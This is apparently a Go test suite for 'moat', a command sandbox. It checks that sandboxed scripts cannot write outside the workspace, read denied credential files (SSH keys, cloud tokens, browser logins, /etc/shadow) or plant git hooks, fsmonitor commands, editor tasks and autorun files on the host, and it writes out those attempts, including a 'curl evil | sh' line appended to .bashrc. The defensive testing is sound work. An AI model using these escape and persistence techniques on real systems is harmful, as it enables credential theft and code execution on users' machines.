package escape_test

import (
	"github.com/moat-sandbox/moat/internal/testmoat"
	"github.com/moat-sandbox/moat/policy"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// testWritesOutside: nothing the sandbox writes outside the workspace reaches the host.
func testWritesOutside(t *testing.T) {
	b := newBox(t)
	u := testmoat.Token("w")
	visible := testmoat.Token("visible")
	writeFile(t, filepath.Join(b.home, "visible.txt"), visible, 0o644)
	const bashrc = "# the user's bashrc\n"
	writeFile(t, filepath.Join(b.home, ".bashrc"), bashrc, 0o644)

	targets, attempts := outsideWrites(t, b, u)
	var s strings.Builder
	s.WriteString(attempts)
	s.WriteString(`mkdir "$HOME/dir2-` + u + `" 2>/dev/null
echo 'curl evil | sh' >> "$HOME/.bashrc" 2>/dev/null
# controls: the workspace is writable, the fake home is the host's and readable,
# and the private /tmp works (mktemp)
echo ok > ctl
cat "$HOME/visible.txt" > seen
f=$(mktemp /tmp/moat-mk-` + u + `.XXXXXX) && echo data > "$f" && cat "$f" > mk && echo "$f" > mkname
cat /tmp/moat-x-` + u + ` > tmpread 2>&1
`)
	r := b.run(opts{script: s.String()})

	if got := testmoat.ReadFile(t, filepath.Join(b.ws, "ctl")); got != "ok\n" {
		t.Fatalf("control: a workspace write did not land on the host (ctl=%q):\n%s", got, r)
	}
	if got := testmoat.ReadFile(t, filepath.Join(b.ws, "seen")); got != visible {
		t.Fatalf("control: the fake HOME is not visible in the sandbox (read %q), so the home checks prove nothing:\n%s", got, r)
	}
	for _, p := range append(targets, filepath.Join(b.home, "dir2-"+u)) {
		if testmoat.Exists(p) {
			t.Errorf("the sandbox created %s on the host", p)
		}
	}
	if got := testmoat.ReadFile(t, filepath.Join(b.home, ".bashrc")); got != bashrc {
		t.Errorf("the sandbox changed ~/.bashrc on the host: %q", got)
	}
	if got := testmoat.ReadFile(t, filepath.Join(b.ws, "mk")); got != "data\n" {
		t.Errorf("control: mktemp in the sandbox's /tmp did not work (mk=%q):\n%s", got, r)
	}
	if name := strings.TrimSpace(testmoat.ReadFile(t, filepath.Join(b.ws, "mkname"))); !strings.HasPrefix(name, "/tmp/moat-mk-"+u+".") {
		t.Errorf("control: mktemp made %q", name)
	}
	for _, dir := range []string{"/tmp", os.TempDir()} {
		if m, _ := filepath.Glob(filepath.Join(dir, "moat-mk-"+u+".*")); len(m) > 0 {
			t.Errorf("the sandbox's mktemp file reached the host: %v", m)
		}
	}
	t.Logf("inside, /tmp/moat-x-%s read back: %q (the private /tmp)", u, testmoat.ReadFile(t, filepath.Join(b.ws, "tmpread")))
}

// outsideWrites returns host paths outside the workspace (in the fake home, beside the
// workspace, /etc and the host's temp dirs), removed when the test ends, and script
// lines that try to write each.
func outsideWrites(t *testing.T, b *box, u string) (targets []string, script string) {
	targets = []string{
		filepath.Join(b.home, "x-"+u),
		filepath.Join(b.home, "dir-"+u),
		filepath.Join(b.root, "beside-workspace-"+u),
		"/etc/moat-x-" + u,
		"/tmp/moat-x-" + u,
		filepath.Join(os.TempDir(), "moat-x2-"+u),
		"/dev/shm/moat-x-" + u,
		"/var/tmp/moat-x-" + u,
	}
	t.Cleanup(func() {
		for _, p := range targets {
			os.RemoveAll(p)
		}
	})
	var s strings.Builder
	for _, p := range targets {
		s.WriteString("echo pwned > " + shq(p) + " 2>/dev/null\n")
	}
	return targets, s.String()
}

// testSecretReads: denied files can't be read by any path, and nothing of them lands
// in the workspace; what is allowed stays readable.
func testSecretReads(t *testing.T) {
	t.Run("deny_read_home", func(t *testing.T) {
		t.Parallel()
		b := newBox(t)
		secret, public := testmoat.Token("secret"), testmoat.Token("public")
		writeFile(t, filepath.Join(b.home, "secret", "id_rsa"), secret, 0o600)
		writeFile(t, filepath.Join(b.home, "public.txt"), public, 0o644)
		// A symlink the cloned repo already carried.
		if err := os.Symlink(filepath.Join(b.home, "secret", "id_rsa"), filepath.Join(b.ws, "carried")); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(filepath.Join(b.home, "secret"), filepath.Join(b.ws, "carried-dir")); err != nil {
			t.Fatal(err)
		}
		r := b.run(opts{
			config: `{"filesystem": {"denyRead": ["~/secret"], "allowWrite": ["."]}}`,
			script: `S="$HOME/secret/id_rsa"
exec >>loot 2>&1
cat "$S"
ln -s "$S" l; cat l
cat carried carried-dir/id_rsa
ln "$S" h; cat h
cat "/proc/self/root$S" "/proc/1/root$S" /proc/self/cwd/carried
find "$(dirname "$HOME")" -name id_rsa -exec cat {} +
timeout 30 find / \( -path /proc -o -path /sys -o -path /usr -o -path /var/lib -o -path '/root/.*' -o -path /root/go -o -path '/home/*/.*' \) -prune -o -name id_rsa -type f -exec cat {} +
unshare -Urm sh -c 'umount "$HOME/secret"; cat "$HOME/secret/id_rsa"'
python3 -c 'import os; print(open(os.path.expanduser("~/secret/id_rsa")).read())'
cp "$S" copy; cp -r "$HOME/secret" copydir; tar -C "$HOME" -cf secret.tar secret; dd if="$S" of=dd.out
cat "$HOME/public.txt"
`,
		})
		loot := testmoat.ReadFile(t, filepath.Join(b.ws, "loot"))
		if !strings.Contains(loot, public) {
			t.Fatalf("control: a readable file of the same home did not reach the loot:\n%s\nloot:\n%s", r, loot)
		}
		if hits := filesContaining(t, b.ws, secret); len(hits) > 0 {
			t.Errorf("the denied secret reached the workspace: %v\nloot:\n%s", hits, loot)
		}
	})

	// Without any settings, moat's default must still hide the usual credential
	// stores (THREATS: secret reads).
	t.Run("default_policy_credentials", func(t *testing.T) {
		t.Parallel()
		b := newBox(t)
		creds := []string{
			".ssh/id_ed25519", ".aws/credentials", ".config/gh/hosts.yml", ".netrc",
			".docker/config.json", ".kube/config", ".git-credentials", ".bash_history",
			".gnupg/private-keys-v1.d/key.key", ".password-store/bank.gpg",
			".mozilla/firefox/abc.default/logins.json", ".config/google-chrome/Default/Login Data",
		}
		toks := map[string]string{}
		var s strings.Builder
		s.WriteString("exec >>loot 2>&1\n")
		for _, c := range creds {
			toks[c] = testmoat.Token("cred")
			writeFile(t, filepath.Join(b.home, c), toks[c]+"\n", 0o600)
			s.WriteString("cat " + shq(filepath.Join(b.home, c)) + "\n")
		}
		notes := testmoat.Token("notes")
		writeFile(t, filepath.Join(b.home, "notes.txt"), notes, 0o644)
		s.WriteString("cat \"$HOME/notes.txt\"\n")
		r := b.run(opts{script: s.String()})
		loot := testmoat.ReadFile(t, filepath.Join(b.ws, "loot"))
		if !strings.Contains(loot, notes) {
			t.Fatalf("control: an ordinary file of the home dir was not readable:\n%s\nloot:\n%s", r, loot)
		}
		var leaked []string
		for _, c := range creds {
			if len(filesContaining(t, b.ws, toks[c])) > 0 {
				leaked = append(leaked, "~/"+c)
			}
		}
		if len(leaked) > 0 {
			t.Errorf("the default policy (no settings file) let the sandbox read %d of %d credential files: %v", len(leaked), len(creds), leaked)
		}
	})

	// Files only root may read (password hashes) stay hidden when moat itself
	// runs as root. As another user the kernel refuses them anyway; the check is
	// the same: no line of the host's file in what the sandbox saw.
	t.Run("system_secrets", func(t *testing.T) {
		t.Parallel()
		b := newBox(t)
		r := b.run(opts{script: `cat /etc/shadow /etc/gshadow >loot 2>&1; cp /etc/shadow copy 2>/dev/null; cat /etc/passwd >control`})
		if !strings.Contains(testmoat.ReadFile(t, filepath.Join(b.ws, "control")), "root:") {
			t.Fatalf("control: /etc/passwd was not readable:\n%s", r)
		}
		host, err := os.ReadFile("/etc/shadow")
		if err != nil {
			host = []byte("root:") // unreadable to this user: every shadow file starts with root's line
		}
		first, _, _ := strings.Cut(string(host), "\n")
		if hits := filesContaining(t, b.ws, first, filepath.Join(b.ws, "control")); len(hits) > 0 {
			t.Errorf("the sandbox read /etc/shadow (root %v): %v", isRoot(), hits)
		}
	})

	t.Run("allow_read_reopens_and_deeper_deny_wins", func(t *testing.T) {
		t.Parallel()
		b := newBox(t)
		denied, reopened, deeper := testmoat.Token("denied"), testmoat.Token("reopened"), testmoat.Token("deeper")
		writeFile(t, filepath.Join(b.home, "secret", "id_rsa"), denied, 0o600)
		writeFile(t, filepath.Join(b.home, "secret", "public", "ok.txt"), reopened, 0o644)
		writeFile(t, filepath.Join(b.home, "secret", "public", "deeper", "key"), deeper, 0o600)
		r := b.run(opts{
			config: `{"filesystem": {
  "denyRead": ["~/secret", "~/secret/public/deeper"],
  "allowRead": ["~/secret/public"],
  "allowWrite": ["."]
}}`,
			script: `exec >>loot 2>&1
cat ~/secret/id_rsa ~/secret/public/ok.txt ~/secret/public/deeper/key
ls -laR ~/secret
find ~/secret -type f -exec cat {} +
cat ~/secret/public/../id_rsa
`,
		})
		loot := testmoat.ReadFile(t, filepath.Join(b.ws, "loot"))
		if !strings.Contains(loot, reopened) {
			t.Fatalf("allowRead inside a denied dir did not re-open it (or the harness is broken):\n%s\nloot:\n%s", r, loot)
		}
		for name, tok := range map[string]string{"~/secret/id_rsa": denied, "~/secret/public/deeper/key": deeper} {
			if hits := filesContaining(t, b.ws, tok); len(hits) > 0 {
				t.Errorf("denied %s reached the workspace: %v", name, hits)
			}
		}
	})

	t.Run("glob_deny_inside_workspace", func(t *testing.T) {
		t.Parallel()
		b := newBox(t)
		env1, env2, pem, readme := testmoat.Token("env1"), testmoat.Token("env2"), testmoat.Token("pem"), testmoat.Token("readme")
		secrets := map[string]string{
			filepath.Join(b.ws, ".env"):                     env1,
			filepath.Join(b.ws, "app", "config", ".env"):    env2,
			filepath.Join(b.ws, "certs", "server.pem"):      pem,
			filepath.Join(b.ws, "certs", "deep", "old.pem"): pem,
		}
		for p, tok := range secrets {
			writeFile(t, p, tok, 0o600)
		}
		writeFile(t, filepath.Join(b.ws, "README.md"), readme, 0o644)
		r := b.run(opts{
			config: `{"filesystem": {"denyRead": ["**/.env", "./**/*.pem"], "allowWrite": ["."]}}`,
			script: `exec >>loot 2>&1
cat .env app/config/.env certs/server.pem certs/deep/old.pem README.md
ln -s .env link-env; cat link-env
ln .env hard-env; cat hard-env
cp .env env.copy; cp certs/server.pem pem.copy
find . -name '*.pem' -exec cat {} +
grep -r --exclude=loot MOAT- .
`,
		})
		loot := testmoat.ReadFile(t, filepath.Join(b.ws, "loot"))
		if !strings.Contains(loot, readme) {
			t.Fatalf("control: a workspace file outside the globs was not readable:\n%s\nloot:\n%s", r, loot)
		}
		for p, tok := range secrets {
			if got := testmoat.ReadFile(t, p); got != tok {
				t.Errorf("%s changed on the host: %q", p, got)
			}
			var skip []string
			for q := range secrets {
				skip = append(skip, q)
			}
			if hits := filesContaining(t, b.ws, tok, skip...); len(hits) > 0 {
				t.Errorf("the content of denied %s reached the workspace: %v", p, hits)
			}
		}
	})
}

// Workspace names that moat covers with a placeholder while they are missing; none
// may be left behind on the host.
var placeholderNames = []string{".vscode", ".idea", ".devcontainer", ".husky", ".claude", ".codex",
	".cursor", ".gemini", ".agents", ".envrc", ".mcp.json", ".gitmodules"}

// payload is what the attacks plant: run on the host, it appends to pwn, a file the
// sandbox itself can't write (it is outside the workspace).
func payloadEnv(b *box) (pwn string, env []string) {
	pwn = filepath.Join(b.root, "pwned")
	hook := "#!/bin/sh\necho \"ran: $0\" >> " + pwn + " 2>/dev/null\nexit 0\n"
	return pwn, []string{"HOOK=" + hook, "FSMON=echo fsmonitor >> " + pwn + " 2>/dev/null; false"}
}

// usersNextStep is what the user does on the host after the sandbox exits: git
// status, a commit and a checkout, each of which runs hooks or fsmonitor.
func usersNextStep(b *box, dir string) {
	b.host(dir, nil, "git", "status")
	b.host(dir, nil, "git", "add", "-A")
	b.host(dir, nil, "git", "commit", "--allow-empty", "-qm", "user's next commit")
	b.host(dir, nil, "git", "checkout", "-q", "-b", "users-next-branch")
}

func checkNotPwned(t *testing.T, pwn string) {
	t.Helper()
	if testmoat.Exists(pwn) {
		t.Errorf("code planted by the sandbox ran on the host when the user ran git: %s:\n%s", pwn, testmoat.ReadFile(t, pwn))
	}
}

func gitInit(b *box, dir string) {
	testmoat.Mkdir(b.t, dir)
	b.git(dir, "-c", "init.defaultBranch=main", "init", "-q")
}

// gitInitCommit makes dir a repository with one empty commit.
func gitInitCommit(b *box, dir string) {
	gitInit(b, dir)
	b.git(dir, "commit", "--allow-empty", "-qm", "init")
}

// repoWithSubmodule makes the workspace a repository with one commit that adds
// a submodule at lib (its git dir: .git/modules/lib).
func repoWithSubmodule(b *box) {
	src := filepath.Join(b.root, "lib-src")
	gitInit(b, src)
	b.git(src, "commit", "--allow-empty", "-qm", "lib")
	gitInit(b, b.ws)
	b.git(b.ws, "-c", "protocol.file.allow=always", "submodule", "add", "-q", src, "lib")
	b.git(b.ws, "commit", "-qm", "add lib")
}

func hookNames(t *testing.T, dir string) []string {
	t.Helper()
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	return names
}

// testProtectedPaths: persistence files inside a writable workspace stay as they
// were, and git keeps working.
func testProtectedPaths(t *testing.T) {
	t.Run("existing", func(t *testing.T) {
		t.Parallel()
		b := newBox(t)
		ws := b.ws
		gitInit(b, ws)
		const settings = "{\"editor.tabSize\": 4}\n"
		const envrc = "export FOO=1\n"
		writeFile(t, filepath.Join(ws, ".vscode", "settings.json"), settings, 0o644)
		writeFile(t, filepath.Join(ws, "envrc-target"), envrc, 0o644)
		if err := os.Symlink("envrc-target", filepath.Join(ws, ".envrc")); err != nil {
			t.Fatal(err)
		}
		config := testmoat.ReadFile(t, filepath.Join(ws, ".git", "config"))
		hooks := hookNames(t, filepath.Join(ws, ".git", "hooks"))
		pwn, env := payloadEnv(b)

		r := b.run(opts{env: env, script: `
printf '%s' "$HOOK" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
printf '%s' "$HOOK" > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout
printf '[core]\n\tfsmonitor = "%s"\n' "$FSMON" >> .git/config
git config core.fsmonitor "$FSMON"
mkdir -p evilhooks && printf '%s' "$HOOK" > evilhooks/pre-commit && chmod +x evilhooks/pre-commit
git config core.hooksPath "$PWD/evilhooks"
mv .git .gitold && mkdir -p .git/hooks && printf '%s' "$HOOK" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
mv .git/hooks .git/hooks.old && mkdir .git/hooks && printf '%s' "$HOOK" > .git/hooks/pre-commit
printf '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"%s","runOptions":{"runOn":"folderOpen"}}]}' "$FSMON" > .vscode/tasks.json
echo '// pwned' >> .vscode/settings.json
echo 'echo pwned' >> .envrc
echo 'echo pwned' >> envrc-target
rm -f .envrc; ln -sf evil .envrc
printf '[submodule "x"]\n\tpath = x\n\turl = ../x\n\tupdate = !sh -c "%s"\n' "$FSMON" > .gitmodules
echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json
mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.json
mkdir -p .idea && echo x > .idea/workspace.xml
# control: everyday git works and lands in the host repo
echo hello > file.txt && git add . && git commit -qm x && git checkout -qb feature && echo committed > control
`})
		if testmoat.ReadFile(t, filepath.Join(ws, "control")) != "committed\n" {
			t.Fatalf("control: git add/commit/checkout failed inside the sandbox:\n%s", r)
		}
		if got := b.git(ws, "log", "-1", "--format=%s", "feature"); got != "x\n" {
			t.Errorf("control: the host repo does not show the commit made inside (feature: %q)", got)
		}
		if got := b.git(ws, "show", "feature:file.txt"); got != "hello\n" {
			t.Errorf("control: file.txt at feature is %q", got)
		}
		if got := testmoat.ReadFile(t, filepath.Join(ws, ".git", "config")); got != config {
			t.Errorf(".git/config changed on the host:\n%s", got)
		}
		if got := hookNames(t, filepath.Join(ws, ".git", "hooks")); !slices.Equal(got, hooks) {
			t.Errorf(".git/hooks changed on the host: %v, was %v", got, hooks)
		}
		for _, p := range []string{".gitold", ".git/hooks.old", ".vscode/tasks.json"} {
			if testmoat.Exists(filepath.Join(ws, p)) {
				t.Errorf("the sandbox created %s on the host", p)
			}
		}
		if got := testmoat.ReadFile(t, filepath.Join(ws, ".vscode", "settings.json")); got != settings {
			t.Errorf(".vscode/settings.json changed on the host: %q", got)
		}
		if got := testmoat.ReadFile(t, filepath.Join(ws, "envrc-target")); got != envrc {
			t.Errorf("the target of the .envrc symlink changed on the host: %q", got)
		}
		if got, err := os.Readlink(filepath.Join(ws, ".envrc")); err != nil || got != "envrc-target" {
			t.Errorf(".envrc on the host is no longer the link to envrc-target: %q, %v", got, err)
		}
		for _, n := range placeholderNames {
			if n != ".vscode" && n != ".envrc" && testmoat.Exists(filepath.Join(ws, n)) {
				t.Errorf("%s exists on the host after the run (created, or a placeholder left behind)", n)
			}
		}
		usersNextStep(b, ws)
		checkNotPwned(t, pwn)
	})

	t.Run("missing", func(t *testing.T) {
		t.Parallel()
		b := newBox(t)
		gitInit(b, b.ws)
		pwn, env := payloadEnv(b)
		r := b.run(opts{env: env, script: `
rmdir .vscode; mv .vscode .vscode-old
mkdir -p .vscode && printf '{"tasks":[{"command":"%s"}]}' "$FSMON" > .vscode/tasks.json
printf '%s' "$FSMON" > .envrc
printf '[submodule "x"]\n\tupdate = !sh -c "%s"\n' "$FSMON" > .gitmodules
echo '{"mcpServers":{}}' > .mcp.json
mkdir -p .claude && echo '{}' > .claude/settings.json
mkdir -p .idea && echo x > .idea/workspace.xml
mkdir -p .cursor && echo '{}' > .cursor/mcp.json
mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json
mkdir -p .husky && printf '%s' "$HOOK" > .husky/pre-commit
mkdir -p .gemini && echo '{}' > .gemini/settings.json
mkdir -p .codex && echo x > .codex/config.toml
mkdir -p .agents && echo x > .agents/x
echo ok > normal && mkdir -p src/.hidden && echo ok > src/.hidden/f
`})
		if testmoat.ReadFile(t, filepath.Join(b.ws, "normal")) != "ok\n" || testmoat.ReadFile(t, filepath.Join(b.ws, "src", ".hidden", "f")) != "ok\n" {
			t.Fatalf("control: ordinary workspace writes did not land on the host:\n%s", r)
		}
		for _, n := range append(placeholderNames, ".vscode-old") {
			if testmoat.Exists(filepath.Join(b.ws, n)) {
				t.Errorf("%s exists on the host after the run (created, or a placeholder left behind)", n)
			}
		}
		usersNextStep(b, b.ws)
		checkNotPwned(t, pwn)
	})

	// A gitdir's "commondir" file moves config and hooks elsewhere: writing one into
	// .git redirects git to a config and hooks the sandbox wrote.
	t.Run("git_commondir_redirect", func(t *testing.T) {
		t.Parallel()
		b := newBox(t)
		gitInitCommit(b, b.ws)
		pwn, env := payloadEnv(b)
		r := b.run(opts{env: env, script: `
cp -r .git evil && printf '%s' "$HOOK" > evil/hooks/pre-commit && chmod +x evil/hooks/pre-commit
printf '[core]\n\tfsmonitor = "%s"\n' "$FSMON" >> evil/config
echo ../evil > .git/commondir
echo ok > normal
`})
		if testmoat.ReadFile(t, filepath.Join(b.ws, "normal")) != "ok\n" || !testmoat.Exists(filepath.Join(b.ws, "evil", "hooks", "pre-commit")) {
			t.Fatalf("control: workspace writes did not land on the host:\n%s", r)
		}
		if testmoat.Exists(filepath.Join(b.ws, ".git", "commondir")) {
			t.Errorf("the sandbox wrote .git/commondir on the host (%q): git now reads config and hooks from a directory the sandbox controls",
				testmoat.ReadFile(t, filepath.Join(b.ws, ".git", "commondir")))
		}
		usersNextStep(b, b.ws)
		checkNotPwned(t, pwn)
	})

	// A repository below the workspace root (a vendored checkout, a submodule's
	// working tree): its .git/hooks and .git/config are just as dangerous.
	t.Run("nested_repo", func(t *testing.T) {
		t.Parallel()
		b := newBox(t)
		gitInit(b, b.ws)
		sub := filepath.Join(b.ws, "vendor", "lib")
		gitInitCommit(b, sub)
		config := testmoat.ReadFile(t, filepath.Join(sub, ".git", "config"))
		hooks := hookNames(t, filepath.Join(sub, ".git", "hooks"))
		pwn, env := payloadEnv(b)
		r := b.run(opts{env: env, script: `
printf '%s' "$HOOK" > vendor/lib/.git/hooks/pre-commit; chmod +x vendor/lib/.git/hooks/pre-commit
printf '[core]\n\tfsmonitor = "%s"\n' "$FSMON" >> vendor/lib/.git/config
echo ok > vendor/lib/normal
`})
		if testmoat.ReadFile(t, filepath.Join(sub, "normal")) != "ok\n" {
			t.Fatalf("control: a write in the nested repo's work tree did not land on the host:\n%s", r)
		}
		if got := testmoat.ReadFile(t, filepath.Join(sub, ".git", "config")); got != config {
			t.Errorf("vendor/lib/.git/config changed on the host:\n%s", got)
		}
		if got := hookNames(t, filepath.Join(sub, ".git", "hooks")); !slices.Equal(got, hooks) {
			t.Errorf("vendor/lib/.git/hooks changed on the host: %v, was %v", got, hooks)
		}
		usersNextStep(b, sub)
		checkNotPwned(t, pwn)
	})

	// A submodule's git dir lives in the superproject's .git/modules/<name>, beside
	// the protected .git/hooks and .git/config but not covered by them.
	t.Run("submodule_gitdir", func(t *testing.T) {
		t.Parallel()
		b := newBox(t)
		repoWithSubmodule(b)
		modules := filepath.Join(b.ws, ".git", "modules", "lib")
		config := testmoat.ReadFile(t, filepath.Join(modules, "config"))
		hooks := hookNames(t, filepath.Join(modules, "hooks"))
		pwn, env := payloadEnv(b)
		r := b.run(opts{env: env, script: `
printf '%s' "$HOOK" > .git/modules/lib/hooks/pre-commit; chmod +x .git/modules/lib/hooks/pre-commit
printf '[core]\n\tfsmonitor = "%s"\n' "$FSMON" >> .git/modules/lib/config
echo ok > lib/normal
`})
		if testmoat.ReadFile(t, filepath.Join(b.ws, "lib", "normal")) != "ok\n" {
			t.Fatalf("control: a write in the submodule's work tree did not land on the host:\n%s", r)
		}
		if got := testmoat.ReadFile(t, filepath.Join(modules, "config")); got != config {
			t.Errorf(".git/modules/lib/config changed on the host:\n%s", got)
		}
		if got := hookNames(t, filepath.Join(modules, "hooks")); !slices.Equal(got, hooks) {
			t.Errorf(".git/modules/lib/hooks changed on the host: %v, was %v", got, hooks)
		}
		usersNextStep(b, filepath.Join(b.ws, "lib"))
		checkNotPwned(t, pwn)
	})

	// core.hooksPath already pointing into the work tree (a tracked .githooks dir, a
	// common setup): that directory is the repository's hooks dir.
	t.Run("configured_hooks_path", func(t *testing.T) {
		t.Parallel()
		b := newBox(t)
		gitInit(b, b.ws)
		b.git(b.ws, "config", "core.hooksPath", ".githooks")
		const hook = "#!/bin/sh\nexit 0\n"
		writeFile(t, filepath.Join(b.ws, ".githooks", "commit-msg"), hook, 0o755)
		b.git(b.ws, "add", "-A")
		b.git(b.ws, "commit", "-qm", "hooks")
		pwn, env := payloadEnv(b)
		r := b.run(opts{env: env, script: `
printf '%s' "$HOOK" > .githooks/pre-commit; chmod +x .githooks/pre-commit
printf '%s' "$HOOK" >> .githooks/commit-msg
echo ok > normal
`})
		if testmoat.ReadFile(t, filepath.Join(b.ws, "normal")) != "ok\n" {
			t.Fatalf("control: a workspace write did not land on the host:\n%s", r)
		}
		if testmoat.Exists(filepath.Join(b.ws, ".githooks", "pre-commit")) {
			t.Errorf("the sandbox created a hook in the configured core.hooksPath (.githooks/pre-commit)")
		}
		if got := testmoat.ReadFile(t, filepath.Join(b.ws, ".githooks", "commit-msg")); got != hook {
			t.Errorf("the sandbox changed .githooks/commit-msg, a hook of the configured core.hooksPath:\n%s", got)
		}
		usersNextStep(b, b.ws)
		checkNotPwned(t, pwn)
	})

	// A workspace that is not a repository yet: the sandbox must not be able to
	// create .git (with a config of its choosing) for the user's next git command.
	t.Run("git_dir_in_non_repo", func(t *testing.T) {
		t.Parallel()
		b := newBox(t)
		pwn, env := payloadEnv(b)
		r := b.run(opts{env: env, script: `
git init -q && git config core.fsmonitor "$FSMON"
printf '%s' "$HOOK" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
echo ok > normal
`})
		if testmoat.ReadFile(t, filepath.Join(b.ws, "normal")) != "ok\n" {
			t.Fatalf("control: a workspace write did not land on the host:\n%s", r)
		}
		if testmoat.Exists(filepath.Join(b.ws, ".git")) {
			t.Errorf("the sandbox created .git in a workspace that had none; its config: %q",
				testmoat.ReadFile(t, filepath.Join(b.ws, ".git", "config")))
			usersNextStep(b, b.ws)
		}
		checkNotPwned(t, pwn)
	})
}

// testWritableHomeAutorun: with the home directory writable, the places that
// run code on their own later (a .pth file in the user site-packages, a vim
// plugin, a file on PATH in ~/.local/bin or ~/.cargo/bin) stay read-only, and a
// write elsewhere in home lands. Judged by the files on the host.
func testWritableHomeAutorun(t *testing.T) {
	b := newBox(t)
	pol, err := policy.Compile(nil, policy.Flags{}, policy.Env{Cwd: b.ws, Home: b.home})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range pol.Protected {
		if p.Where == policy.WhereHome && !p.Dir && !testmoat.Exists(filepath.Join(b.home, p.Name)) {
			// Missing home files can't be covered: moat refuses to run until they exist.
			writeFile(t, filepath.Join(b.home, p.Name), "", 0o644)
		}
	}
	planted := []string{".local/lib/python3/site-packages/evil.pth", ".vim/plugin/evil.vim", ".local/bin/git", ".cargo/bin/ls",
		".local/share/nvim/site/pack/x/start/evil/plugin/evil.lua", ".config/tmux/tmux.conf"}
	script := ""
	for _, p := range planted {
		script += "mkdir -p " + shq(filepath.Dir(filepath.Join(b.home, p))) + " 2>/dev/null; echo pwn > " + shq(filepath.Join(b.home, p)) + " 2>/dev/null\n"
	}
	r := b.run(opts{flags: []string{"--allow-write", b.home}, script: script + "echo ok > " + shq(filepath.Join(b.home, "notes.txt"))})
	if testmoat.ReadFile(t, filepath.Join(b.home, "notes.txt")) != "ok\n" {
		t.Fatalf("control: a write in the writable home did not land:\n%s", r)
	}
	for _, p := range planted {
		if testmoat.Exists(filepath.Join(b.home, p)) {
			t.Errorf("~/%s exists on the host after the run:\n%s", p, r)
		}
	}
}

// testDanglingProtectedLinks: a protected name that is already, before the
// run, a symlink (shipped in a repository) must not let the command put files
// behind it. A link to a missing path the sandbox could create (.claude ->
// ai-config, .vscode -> build/vscode; one whose path goes through "..": after a
// link, ".." leaves the link's target, not the link; one through a directory
// without search permission, which its owner can open up) stops the run with
// exit 125, naming the link. A link to an existing path keeps working, and the
// command can't swap what it leads to: replacing a link on the way (rm lnk;
// mkdir lnk) or renaming a parent of the target (mv cfg cfg.old) fails. A link
// to a missing path the sandbox can't create runs as usual. Judged by the files
// on the host.
func testDanglingProtectedLinks(t *testing.T) {
	type tc struct {
		name   string
		setup  func(ws string)
		script string
		refuse bool
		check  []string // paths (workspace-relative) that must not exist afterwards
	}
	link := func(target, name string) func(ws string) {
		return func(ws string) {
			if err := os.Symlink(target, filepath.Join(ws, name)); err != nil {
				t.Fatal(err)
			}
		}
	}
	mkdir := func(ws string, dirs ...string) {
		for _, d := range dirs {
			testmoat.Mkdir(t, filepath.Join(ws, d))
		}
	}
	cases := []tc{
		{"dangling", func(ws string) { link("ai-config", ".claude")(ws); link("build/vscode", ".vscode")(ws) },
			`mkdir -p ai-config build/vscode; echo '{"hooks":1}' > ai-config/settings.json; echo '{}' > build/vscode/tasks.json`,
			true, []string{".claude/settings.json", ".vscode/tasks.json"}},
		{"dotdot_after_a_link", func(ws string) {
			mkdir(ws, "inner/deep", "x")
			link("inner/deep", "sub")(ws)
			link("sub/../x", ".claude")(ws)
		}, `mkdir -p inner/x; echo '{"hooks":1}' > inner/x/settings.json`, true, []string{".claude/settings.json"}},
		{"unsearchable_dir", func(ws string) {
			mkdir(ws, "locked")
			if err := os.Chmod(filepath.Join(ws, "locked"), 0); err != nil {
				t.Fatal(err)
			}
			link("locked/x", ".claude")(ws)
		}, `chmod 755 locked; mkdir -p locked/x; echo '{"hooks":1}' > locked/x/settings.json`, true, []string{".claude/settings.json"}},
		{"link_on_the_way_replaced", func(ws string) {
			mkdir(ws, "realdir")
			link("lnk", ".claude")(ws)
			link("realdir", "lnk")(ws)
		}, `rm lnk; mkdir lnk; echo '{"hooks":1}' > lnk/settings.json`, false, []string{".claude/settings.json", "lnk/settings.json"}},
		{"parent_of_target_renamed", func(ws string) {
			mkdir(ws, "cfg/claude")
			link("cfg/claude", ".claude")(ws)
		}, `mv cfg cfg.old; mkdir -p cfg/claude; echo '{"hooks":1}' > cfg/claude/settings.json`, false, []string{".claude/settings.json"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b := newBox(t)
			c.setup(b.ws)
			t.Cleanup(func() { os.Chmod(filepath.Join(b.ws, "locked"), 0o755) })
			r := b.run(opts{script: c.script + "; echo ran"})
			for _, p := range c.check {
				if testmoat.Exists(filepath.Join(b.ws, p)) {
					t.Errorf("%s exists on the host after the run:\n%s", p, r)
				}
			}
			switch {
			case c.refuse && (r.code != 125 || !strings.Contains(r.stderr, "symlink to")):
				t.Errorf("moat did not refuse the run naming the link (want exit 125):\n%s", r)
			case !c.refuse && !strings.Contains(r.stdout, "ran"):
				t.Errorf("control: the run did not start:\n%s", r)
			}
		})
	}

	// Control: a dangling link whose target the sandbox can't create.
	t.Run("dangling_outside", func(t *testing.T) {
		t.Parallel()
		c := newBox(t)
		if err := os.Symlink(filepath.Join(c.root, "elsewhere", "ai"), filepath.Join(c.ws, ".claude")); err != nil {
			t.Fatal(err)
		}
		if r := c.run(opts{script: `echo ran`}); r.code != 0 || !strings.Contains(r.stdout, "ran") {
			t.Errorf("control: a dangling protected link to a path the sandbox can't create stopped the run:\n%s", r)
		}
	})
}
